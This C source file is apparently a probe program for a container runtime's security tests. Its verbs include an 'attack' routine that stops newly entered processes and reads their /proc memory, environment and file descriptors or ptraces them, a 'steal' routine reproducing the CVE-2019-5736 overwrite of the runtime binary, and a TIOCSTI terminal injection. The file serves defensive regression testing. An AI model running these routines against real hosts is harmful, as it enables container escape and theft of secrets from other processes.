/* What the attack tests do inside a container, or beside one, by system calls: statically linked, so that it runs in any
 * root. Every verb prints what it saw; the shell test judges.
 *
 *   fds                      the open fds, one a line, but not the one that lists them
 *   inotify N                takes up to N inotify instances: how many it got
 *   signals N                queues up to N signals to itself: how many it got
 *   unshare FLAG             user, mount, ...: "yes" or the errno
 *   open PATH [w]            "opened" or the errno
 *   euid                     as a number
 *   securebits               as a number
 *   keys-add NAME COMMAND..  in a new session keyring with a key
 *   keys-find NAME           "found" or the errno
 *   attack COUNT FOLDER      tries to get into each process of the pid namespace that is not there from the start
 *   stop                     stops each process that enters the container before it executes its program
 *   join PID hidden|open     joins the user and pid namespace of PID as exec does, waits 200 ms, ends
 *   steal SECONDS            waits for a process whose program is not ours and writes to that program: "wrote" or "no"
 *   linger                   sleeps, closing nothing
 *   owner PATH               the user who made the user namespace of that file, as an id of ours
 *   listen NAME              on an abstract stream socket, until it is killed
 *   connect NAME             to it: "connected" or the errno
 *   notify TEXT              to $NOTIFY_SOCKET: "sent" or the errno
 *   tcp-serve PORT           on every address, until it is killed
 *   tcp ADDRESS PORT [mptcp|fastopen|fastopen-msg|fastopen-mmsg]  to it: "connected" or the errno
 *   landlock                 the version of the kernel's Landlock, -1: none
 *   clocks                   CLOCK_BOOTTIME and CLOCK_MONOTONIC in seconds
 *   tiocsti                  pushes a character into the terminal of stdin: "pushed" or the errno */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/nsfs.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int said(const char *word, long result)
{
        puts(result < 0 ? strerrorname_np(errno) : word);
        return result < 0;
}

static int list_fds(void)
{
        DIR *dir = opendir("/proc/self/fd");
        struct dirent *entry;
        char target[512];

        while (dir != NULL && (entry = readdir(dir)) != NULL) {
                ssize_t n = readlinkat(dirfd(dir), entry->d_name, target, sizeof target - 1);

                if (n < 0 || atoi(entry->d_name) == dirfd(dir))
                        continue;
                target[n] = '\0';
                printf("%s %s\n", entry->d_name, target);
        }
        return dir == NULL;
}

static int take_inotify(long most)
{
        long n = 0;

        while (n < most && inotify_init1(0) >= 0)
                n++;
        printf("%ld %s\n", n, n < most ? strerrorname_np(errno) : "all");
        fflush(stdout);
        pause();
        return 0;
}

static int queue_signals(long most)
{
        sigset_t set;
        long n = 0;

        sigemptyset(&set);
        sigaddset(&set, SIGRTMIN);
        sigprocmask(SIG_BLOCK, &set, NULL);
        while (n < most && sigqueue(getpid(), SIGRTMIN, (union sigval){ 0 }) == 0)
                n++;
        printf("%ld %s\n", n, n < most ? strerrorname_np(errno) : "all");
        fflush(stdout);
        pause();
        return 0;
}

static int try_unshare(const char *what)
{
        static const struct { const char *name; int flag; } all[] = {
                { "user", CLONE_NEWUSER }, { "mount", CLONE_NEWNS }, { "net", CLONE_NEWNET }, { "ipc", CLONE_NEWIPC },
                { "uts", CLONE_NEWUTS }, { "pid", CLONE_NEWPID }, { "cgroup", CLONE_NEWCGROUP },
        };

        for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
                if (strcmp(all[i].name, what) == 0)
                        return said("yes", unshare(all[i].flag));
        return 2;
}

static int add_key(const char *name, char **command)
{
        if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
            syscall(SYS_add_key, "user", name, "secret", (size_t)6, KEY_SPEC_SESSION_KEYRING) < 0) {
                perror("add a key");
                return 77;
        }
        execvp(command[0], command);
        perror(command[0]);
        return 127;
}

static int find_key(const char *name)
{
        return said("found", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0));
}

/* ---- getting into another process ---- */

static void note(const char *folder, const char *way, pid_t pid, const char *what)
{
        char path[512];
        FILE *file;

        snprintf(path, sizeof path, "%s/%s", folder, way);
        file = fopen(path, "a");
        if (file != NULL) {
                fprintf(file, "%d %s\n", pid, what);
                fclose(file);
        }
}

/* Only what was open before the process executed its program counts: afterwards it is the container's own. The runtime's
 * program is not in the container's root, so its name tells. */
static int is_before_exec(pid_t pid)
{
        char path[64], name[32] = "";
        FILE *file;

        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        file = fopen(path, "r");
        if (file == NULL)
                return 0;
        if (fgets(name, sizeof name, file) == NULL)
                name[0] = '\0';
        fclose(file);
        return strncmp(name, "runb", 4) == 0 || strncmp(name, "probe-join", 10) == 0 || strncmp(name, "runc", 4) == 0;
}

static void stop(pid_t pid, const char *folder)
{
        (void)folder;
        if (is_before_exec(pid) && kill(pid, SIGSTOP) == 0 && !is_before_exec(pid))
                kill(pid, SIGCONT);
}

/* A success counts when the process had still not executed its program afterwards. */
static void note_if_before(const char *folder, const char *way, pid_t pid, const char *what)
{
        if (is_before_exec(pid))
                note(folder, way, pid, what);
}

static void attack(pid_t pid, const char *folder)
{
        static const char *const files[] = { "environ", "maps", "mem", "auxv", "stack", "io" };
        char path[64], bytes[64];
        int pidfd, fd;

        /* Container root may signal whoever has its uid: a stopped process gives all the time in the world. */
        kill(pid, SIGSTOP);
        if (!is_before_exec(pid)) {
                kill(pid, SIGCONT);
                return;
        }
        note(folder, "seen", pid, "");
        for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
                fd = open(path, O_RDONLY);
                if (fd >= 0 && (strcmp(files[i], "mem") == 0 || read(fd, bytes, sizeof bytes) > 0))
                        note_if_before(folder, "files", pid, files[i]);
                if (fd >= 0)
                        close(fd);
        }
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if ((fd = open(path, O_RDONLY)) >= 0) {
                note_if_before(folder, "exe", pid, "");
                close(fd);
        }
        snprintf(path, sizeof path, "/proc/%d/cwd/.", pid);
        if ((fd = open(path, O_RDONLY)) >= 0) {
                note_if_before(folder, "cwd", pid, "");
                close(fd);
        }
        pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        for (int number = 0; pidfd >= 0 && number < 24; number++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
                if (readlink(path, bytes, sizeof bytes) > 0)
                        note_if_before(folder, "fd", pid, path);
                if ((fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0)) >= 0) {
                        note_if_before(folder, "getfd", pid, path);
                        close(fd);
                }
        }
        if (pidfd >= 0)
                close(pidfd);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                note_if_before(folder, "ptrace", pid, "");
                kill(pid, SIGKILL);
                waitpid(pid, NULL, __WALL);     /* a traced zombie is its tracer's first */
        }
        kill(pid, SIGCONT);
}

static int attack_all(long count, const char *folder, void (*way)(pid_t, const char *))
{
        static char known[1 << 22];
        struct dirent *entry;
        DIR *dir;

        for (long round = 0; round < count; round++) {
                dir = opendir("/proc");
                if (dir == NULL)
                        return 1;
                while ((entry = readdir(dir)) != NULL) {
                        pid_t pid = atoi(entry->d_name);

                        if (pid <= 0 || pid == getpid() || pid >= (pid_t)sizeof known)
                                continue;
                        if (round == 0)
                                known[pid] = 1;
                        else if (!known[pid])
                                way(pid, folder);
                }
                closedir(dir);
                if (round == 0)
                        note(folder, "ready", getpid(), "");
        }
        return 0;
}

static int join(const char *target, int is_hidden)
{
        char path[64];
        int userns, pidns;
        pid_t pid;

        snprintf(path, sizeof path, "/proc/%s/ns/user", target);
        userns = open(path, O_RDONLY | O_CLOEXEC);
        snprintf(path, sizeof path, "/proc/%s/ns/pid", target);
        pidns = open(path, O_RDONLY | O_CLOEXEC);
        if (userns < 0 || pidns < 0 || setns(pidns, CLONE_NEWPID) < 0) {
                perror("join");
                return 1;
        }
        pid = fork();
        if (pid == 0) {
                prctl(PR_SET_NAME, "probe-join");
                if (is_hidden)
                        prctl(PR_SET_DUMPABLE, 0);
                if (setns(userns, CLONE_NEWUSER) < 0)
                        _exit(1);
                usleep(200000);
                _exit(0);
        }
        return waitpid(pid, NULL, 0) < 0;
}

/* CVE-2019-5736: holds the program of whoever comes by, and writes to it as soon as it runs no more. */
static int steal(long seconds)
{
        time_t end = time(NULL) + seconds;
        int fd = -1, out;
        char path[64], name[256];

        while (time(NULL) < end) {
                for (int pid = 1; fd < 0 && pid < 400; pid++) {
                        ssize_t n;

                        snprintf(path, sizeof path, "/proc/%d/exe", pid);
                        n = readlink(path, name, sizeof name - 1);
                        if (n <= 0)
                                continue;
                        name[n] = '\0';
                        if (strstr(name, "runb") != NULL)
                                fd = open(path, O_PATH);
                }
                if (fd < 0)
                        continue;
                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                out = open(path, O_WRONLY);
                if (out >= 0 && write(out, "stolen", 6) == 6)
                        return puts("wrote") < 0;
                if (out >= 0)
                        close(out);
        }
        return puts(fd < 0 ? "no: it never came" : "no") < 0;
}

static int print_owner(const char *path)
{
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        uid_t uid;

        if (fd < 0 || ioctl(fd, NS_GET_OWNER_UID, &uid) < 0)
                return said("", -1);
        return printf("%u\n", uid) < 0;
}

/* A stream socket of an abstract name: connects, or listens until it is killed. */
static int abstract_socket(const char *name, int is_server)
{
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        const socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

        memcpy(address.sun_path + 1, name, strlen(name));
        if (!is_server)
                return said("connected", fd < 0 ? fd : connect(fd, (struct sockaddr *)&address, length));
        if (fd < 0 || bind(fd, (struct sockaddr *)&address, length) < 0 || listen(fd, 8) < 0)
                return said("", -1);
        puts("listening");
        fflush(stdout);
        return pause();
}

static int serve_tcp(const char *port)
{
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) < 0 || listen(fd, 64) < 0)
                return said("", -1);
        puts("listening");
        fflush(stdout);
        return pause();
}

static int connect_tcp(const char *host, const char *port, const char *how)
{
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
        struct iovec bytes = { (char[]){ 'x' }, 1 };
        struct mmsghdr message = { .msg_hdr = { .msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &bytes,
                                                .msg_iovlen = 1 } };
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, strcmp(how, "mptcp") == 0 ? 262 : 0);

        if (fd < 0 || inet_pton(AF_INET, host, &address.sin_addr) != 1)
                return said("", -1);
        if (strcmp(how, "fastopen") == 0)
                return said("connected", sendto(fd, "x", 1, MSG_FASTOPEN, (struct sockaddr *)&address, sizeof address));
        if (strcmp(how, "fastopen-msg") == 0)
                return said("connected", sendmsg(fd, &message.msg_hdr, MSG_FASTOPEN));
        if (strcmp(how, "fastopen-mmsg") == 0)
                return said("connected", sendmmsg(fd, &message, 1, MSG_FASTOPEN));
        return said("connected", connect(fd, (struct sockaddr *)&address, sizeof address));
}

/* sd_notify(3), as a program in the container does it. */
static int notify(const char *text)
{
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        const char *path = getenv("NOTIFY_SOCKET");
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        snprintf(address.sun_path, sizeof address.sun_path, "%s", path != NULL ? path : "");
        return said("sent", fd < 0 ? fd : sendto(fd, text, strlen(text), 0, (struct sockaddr *)&address, sizeof address));
}

int main(int argc, char **argv)
{
        const char *verb = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "", *second = argc > 3 ? argv[3] : "";
        struct timespec boot, monotonic;

        if (strcmp(verb, "fds") == 0)
                return list_fds();
        if (strcmp(verb, "inotify") == 0)
                return take_inotify(atol(first));
        if (strcmp(verb, "signals") == 0)
                return queue_signals(atol(first));
        if (strcmp(verb, "unshare") == 0)
                return try_unshare(first);
        if (strcmp(verb, "open") == 0)
                return said("opened", open(first, strcmp(second, "w") == 0 ? O_WRONLY : O_RDONLY | O_NONBLOCK));
        if (strcmp(verb, "securebits") == 0)
                return printf("%d\n", prctl(PR_GET_SECUREBITS)) < 0;
        if (strcmp(verb, "keys-add") == 0 && argc > 3)
                return add_key(first, argv + 3);
        if (strcmp(verb, "keys-find") == 0)
                return find_key(first);
        if (strcmp(verb, "attack") == 0)
                return attack_all(atol(first), second, attack);
        if (strcmp(verb, "stop") == 0)
                return attack_all(1L << 40, "/tmp", stop);
        if (strcmp(verb, "join") == 0)
                return join(first, strcmp(second, "hidden") == 0);
        if (strcmp(verb, "euid") == 0)
                return printf("%u\n", geteuid()) < 0;
        if (strcmp(verb, "owner") == 0)
                return print_owner(first);
        if (strcmp(verb, "steal") == 0)
                return steal(atol(first));
        if (strcmp(verb, "linger") == 0)
                return pause();
        if (strcmp(verb, "listen") == 0 || strcmp(verb, "connect") == 0)
                return abstract_socket(first, verb[0] == 'l');
        if (strcmp(verb, "notify") == 0)
                return notify(first);
        if (strcmp(verb, "tcp-serve") == 0)
                return serve_tcp(first);
        if (strcmp(verb, "tcp") == 0)
                return connect_tcp(first, second, argc > 4 ? argv[4] : "");
        if (strcmp(verb, "landlock") == 0)      /* landlock_create_ruleset(2), LANDLOCK_CREATE_RULESET_VERSION */
                return printf("%ld\n", syscall(444, NULL, (size_t)0, 1)) < 0;
        if (strcmp(verb, "clocks") == 0) {
                clock_gettime(CLOCK_BOOTTIME, &boot);
                clock_gettime(CLOCK_MONOTONIC, &monotonic);
                return printf("%lld %lld\n", (long long)boot.tv_sec, (long long)monotonic.tv_sec) < 0;
        }
        if (strcmp(verb, "tiocsti") == 0)
                return said("pushed", ioctl(0, TIOCSTI, "x"));
        fprintf(stderr, "probe: no such verb: %s\n", verb);
        return 2;
}
